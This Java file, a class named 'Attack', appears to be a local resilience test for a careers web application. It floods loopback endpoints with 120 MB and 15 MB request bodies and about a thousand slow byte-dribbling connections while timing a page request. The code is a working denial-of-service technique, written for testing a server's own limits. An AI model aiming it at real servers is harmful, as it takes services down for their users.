import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;

/** Sends large and slow bodies, and asks for a page in between: {@code java Attack.java PORT}. */
final class Attack {
  private static final String FORM = "Content-Type: application/x-www-form-urlencoded\r\n";
  private static final int CONNECTIONS = 1_010;

  public static void main(String[] args) throws Exception {
    int port = Integer.parseInt(args[0]);
    look(port, "before");
    List<Thread> large = new ArrayList<>();
    large.add(Thread.ofVirtual().start(() -> send(port, "/en/apply/resume", 120)));
    for (int i = 0; i < 4; i++) {
      large.add(Thread.ofVirtual().start(() -> send(port, "/en/apply/resume", 15)));
    }
    while (large.stream().anyMatch(Thread::isAlive)) {
      look(port, "while one of 120 MB and four of 15 MB come in");
      TimeUnit.SECONDS.sleep(1);
    }
    List<Socket> slow = new ArrayList<>();
    for (int i = 0; i < CONNECTIONS; i++) {
      Socket socket = new Socket(InetAddress.getLoopbackAddress(), port);
      String path = i % 8 == 0 ? "/hooks/mail/bounce" : "/en/apply/resume";
      write(socket, i % 2 == 0 ? head(path, 1_000) : "GET /en/careers HTTP/1.1\r\nX-Slow: ");
      slow.add(socket);
    }
    long start = System.nanoTime();
    while (!slow.isEmpty() && System.nanoTime() - start < Duration.ofMinutes(2).toNanos()) {
      slow.removeIf(socket -> !dribbles(socket));
      look(port, "while " + slow.size() + " send a byte every two seconds");
      TimeUnit.SECONDS.sleep(2);
    }
    look(port, "after");
  }

  private static boolean dribbles(Socket socket) {
    try {
      write(socket, "x");
      socket.setSoTimeout(1);
      if (socket.getInputStream().read() < 0) {
        socket.close();
        return false;
      }
      return true;
    } catch (java.net.SocketTimeoutException e) {
      return true;
    } catch (IOException e) {
      return false;
    }
  }

  private static void send(int port, String path, int megabytes) {
    try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
      write(socket, head(path, megabytes << 20));
      byte[] piece = "x".repeat(1 << 20).getBytes(StandardCharsets.ISO_8859_1);
      OutputStream out = socket.getOutputStream();
      for (int i = 0; i < megabytes; i++) {
        out.write(piece);
      }
      byte[] answer = socket.getInputStream().readNBytes(12);
      System.out.printf("%d MB: %s%n", megabytes, new String(answer, StandardCharsets.ISO_8859_1));
    } catch (IOException e) {
      System.out.printf("%d MB: %s%n", megabytes, e);
    }
  }

  private static String head(String path, int length) {
    return "POST %s HTTP/1.1\r\nHost: localhost\r\n%sContent-Length: %d\r\n\r\n"
        .formatted(path, FORM, length);
  }

  private static void write(Socket socket, String text) throws IOException {
    socket.getOutputStream().write(text.getBytes(StandardCharsets.ISO_8859_1));
  }

  private static void look(int port, String when) {
    long start = System.nanoTime();
    String answer;
    try (HttpClient client = HttpClient.newHttpClient()) {
      URI page = URI.create("http://127.0.0.1:" + port + "/en/careers?q=trees");
      var request = HttpRequest.newBuilder(page).timeout(Duration.ofSeconds(20)).build();
      answer = String.valueOf(client.send(request, HttpResponse.BodyHandlers.ofString()).statusCode());
    } catch (IOException | InterruptedException e) {
      answer = e.toString();
    }
    System.out.printf("%s: %s in %d ms%n", when, answer, (System.nanoTime() - start) / 1_000_000);
  }
}
